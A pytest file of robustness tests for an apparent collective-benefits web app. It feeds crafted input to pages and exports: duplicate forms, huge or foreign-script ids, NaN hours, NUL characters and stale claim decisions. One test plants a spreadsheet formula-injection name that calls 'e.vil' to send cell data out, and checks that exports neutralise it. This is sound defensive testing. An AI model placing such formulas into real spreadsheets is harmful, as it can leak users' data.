"""Crafted and repeated input gets a clear answer, never a 500, and writes nothing twice.

Found by a review that tried to break the pages; each test is one such attempt.
"""
from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
import sqlalchemy as sa

from collective.benefits import claims, plans, runs
from collective.benefits.compute import PlanTerms, add_months
from collective.demo.fund import BREAD_FUND
from collective.errors import DomainError
from collective.extensions import db
from collective.ledger import services as ledger
from collective.ledger.models import JournalEntry
from collective.members import accounts
from collective.members.models import Membership
from collective.pool import payouts
from collective.pool.models import ClientPayment, TimeEntry
from collective.reports import exports, xlsx
from tests import test_pool_views
from tests.factories import commit, make_collective
from tests.test_pool_views import _login

world = test_pool_views.world  # the fixture: a collective with work in progress

HUGE = "99999999999999999999"


def _count(setup, model) -> int:
    with setup():
        return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def test_the_same_payment_form_sent_twice_records_one_payment(client, auth, setup, world):
    _login(auth, world.coordinator)
    form = {"amount": "250.00", "currency": "USD", "received_on": date.today().isoformat(),
            "reference": "INV-2", "request_key": "a" * 32}
    before = (_count(setup, ClientPayment), _count(setup, JournalEntry))
    url = f"/c/{world.slug}/pool/pitches/{world.pitch_id}/payments/new"
    assert client.post(url, data=form).status_code == 302
    assert client.post(url, data=form).status_code == 302
    assert (_count(setup, ClientPayment), _count(setup, JournalEntry)) == (before[0] + 1,
                                                                           before[1] + 1)
    # The same key for another amount is a conflict, not a second payment.
    other = client.post(url, data={**form, "amount": "300.00"})
    assert other.status_code == 422
    assert _count(setup, ClientPayment) == before[0] + 1


@pytest.mark.parametrize("path", [
    "/c/{slug}/pool/pitches/" + HUGE,
    "/c/{slug}/proposals/" + HUGE,
    "/c/{slug}/fund/claims/" + HUGE,
    "/c/{slug}/ledger/entries/" + HUGE,
    "/c/{slug}/reports/statement?member=" + HUGE,
])
def test_ids_beyond_a_database_integer_are_not_found(client, auth, world, path):
    _login(auth, world.founder)
    assert client.get(path.format(slug=world.slug)).status_code == 404


@pytest.mark.parametrize("zero", ["٠", "０"])
def test_ids_in_other_scripts_digits_are_not_found(client, auth, world, zero):
    # Issue 9: werkzeug's <int:> read '/pitches/١' as pitch 1; ids take the digits 0-9 only.
    _login(auth, world.founder)
    pitch = str(world.pitch_id).translate({ord(str(d)): chr(ord(zero) + d) for d in range(10)})
    assert int(pitch) == world.pitch_id   # the same number, in another script
    assert client.get(f"/c/{world.slug}/pool/pitches/{world.pitch_id}").status_code == 200
    assert client.get(f"/c/{world.slug}/pool/pitches/{pitch}").status_code == 404


def test_a_huge_paging_id_is_ignored(client, auth, world):
    _login(auth, world.founder)
    assert client.get(f"/c/{world.slug}/ledger/?before={HUGE}").status_code == 200


def test_a_damaged_version_is_a_conflict_not_a_crash(client, auth, world):
    _login(auth, world.coordinator)
    response = client.post(f"/c/{world.slug}/pool/pitches/{world.open_pitch_id}/state",
                           data={"move-state": "pitched", "move-version": "abc"})
    assert response.status_code == 409


@pytest.mark.parametrize("hours", ["9E999999", "1e-999999", "NaN", "Infinity", "١.٥", "２"])
def test_absurd_hours_are_a_form_error(client, auth, setup, world, hours):
    _login(auth, world.alice)
    before = _count(setup, TimeEntry)
    response = client.post(f"/c/{world.slug}/pool/my-work", data={
        "allocation_id": world.alice_allocation_id, "worked_on": date.today().isoformat(),
        "hours": hours})
    assert response.status_code == 422
    assert _count(setup, TimeEntry) == before


@pytest.mark.parametrize("path", ["/login", "/c/{slug}/pool/clients"])
def test_nul_characters_are_refused(client, auth, world, path):
    _login(auth, world.coordinator)
    response = client.post(path.format(slug=world.slug),
                           data={"email": "a\x00b@example.org", "name": "Bad\x00Name",
                                 "password": "x"})
    assert response.status_code == 400


def test_a_balance_sheet_far_in_the_past_is_a_clear_error(client, auth, world):
    _login(auth, world.founder)
    response = client.get(f"/c/{world.slug}/reports/balance-sheet?as_of=0001-01-01")
    assert response.status_code == 200
    assert "dates must lie between" in response.get_data(as_text=True)


def test_a_plan_form_missing_its_percentages_is_not_a_crash(client, auth, world):
    _login(auth, world.founder)
    response = client.post(f"/c/{world.slug}/fund/plan/propose",
                           data={"contribution_kind": "levels", "levels": "500",
                                 "effective_on": date.today().strftime("%Y-%m")})
    assert response.status_code in (302, 422)


def test_a_plan_cannot_start_in_year_one(ctx):
    founder = make_collective()
    with pytest.raises(DomainError, match="a year back or two years ahead") as refused:
        plans.set_founding_plan(founder, PlanTerms.from_json(BREAD_FUND), date(1, 1, 1),
                                today=date.today())
    assert refused.value.field == "effective_on"


def test_names_that_look_like_formulas_stay_text_in_exports(ctx):
    founder = make_collective()
    accounts.update_profile(founder.user, name='=HYPERLINK("http://e.vil/?x="&D2,"Priya")',
                           timezone="UTC", country=None, skills={})
    payouts.record_deposit(founder, founder, amount=1000, received_on=date.today(),
                           request_key="formula-1", today=date.today())
    commit()
    query = exports.LedgerQuery(founder.collective_id, date(2026, 1, 1), date.today())
    rows = list(csv.DictReader(io.StringIO(b"".join(exports.csv_chunks(query)).decode())))
    members_cells = {r["member"] for r in rows if r["member"]}
    assert members_cells == {"'=HYPERLINK(\"http://e.vil/?x=\"&D2,\"Priya\")"}
    out = io.BytesIO()
    xlsx.write_xlsx(query, out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Postings"]
    names = [row[6].value for row in sheet.iter_rows(min_row=2) if row[6].value]
    assert names and all(n.startswith("=HYPERLINK") for n in names)
    assert all(row[6].data_type == "s" for row in sheet.iter_rows(min_row=2) if row[6].value)


def test_a_claim_decided_meanwhile_is_a_conflict(ctx):
    """Two treasurers deciding one claim: the second finds it decided (conditional UPDATE),
    even when its copy of the claim still says pending."""
    from collective.benefits.models import Claim, ClaimEvent
    from collective.errors import Conflict
    from collective.members.models import Role
    from tests.benefits.factories import NOW, TODAY, deposit, found_fund
    from tests.factories import make_member

    treasurer, ann = found_fund(2)
    tess = make_member(treasurer.collective, roles=(Role.MEMBER, Role.TREASURER))
    deposit(treasurer, ann, 50_000)
    runs.run_contributions(treasurer.collective_id, date(2026, 9, 1), today=TODAY)
    claim = claims.file_claim(ann, kind="sick", start_period=date(2026, 10, 1), months=3,
                              today=TODAY, now=NOW)
    # Another treasurer's request rejects it in the meantime (written around this session).
    db.session.execute(sa.update(Claim).where(Claim.id == claim.id)
                       .values(status="rejected")
                       .execution_options(synchronize_session=False))
    assert claim.status == "pending"  # this session's copy is stale
    with pytest.raises(Conflict, match="decided by someone else"):
        claims.decide_claim(tess, claim, approve=True, reason="get well soon", now=NOW)
    assert db.session.scalar(sa.select(Claim.status).where(Claim.id == claim.id)) == "rejected"
    events = db.session.scalars(sa.select(ClaimEvent.status)
                                .where(ClaimEvent.claim_id == claim.id)).all()
    assert events == ["pending"]


def test_an_entry_of_a_fund_run_cannot_be_reversed_on_its_own(client, auth, setup, world):
    with setup():
        founder = db.session.get(Membership, world.founder_id)
        plans.set_founding_plan(founder, PlanTerms.from_json(BREAD_FUND),
                                effective_on=date.today().replace(day=1), today=date.today())
        # This month's run, as run once the month has ended.
        this_month = date.today().replace(day=1)
        result = runs.run_contributions(founder.collective_id, this_month,
                                        today=add_months(this_month, 1))
        entry_id = db.session.scalar(sa.select(sa.func.min(JournalEntry.id)).where(
            JournalEntry.kind == "contribution",
            JournalEntry.collective_id == founder.collective_id))
        commit()
    assert result.entries > 0
    _login(auth, world.founder)
    page = client.get(f"/c/{world.slug}/ledger/entries/{entry_id}")
    assert page.status_code == 200 and "Reverse this entry" not in page.get_data(as_text=True)
    before = _count(setup, JournalEntry)
    response = client.post(f"/c/{world.slug}/ledger/entries/{entry_id}", data={"memo": "x"})
    assert response.status_code == 422
    assert "belongs to a fund run" in response.get_data(as_text=True)
    assert _count(setup, JournalEntry) == before
    with setup():
        entry = db.session.get(JournalEntry, entry_id)
        # The rule is the ledger service's, so every caller (CLI, API) meets it too.
        with pytest.raises(DomainError, match="belongs to a fund run"):
            ledger.reverse_entry(entry)
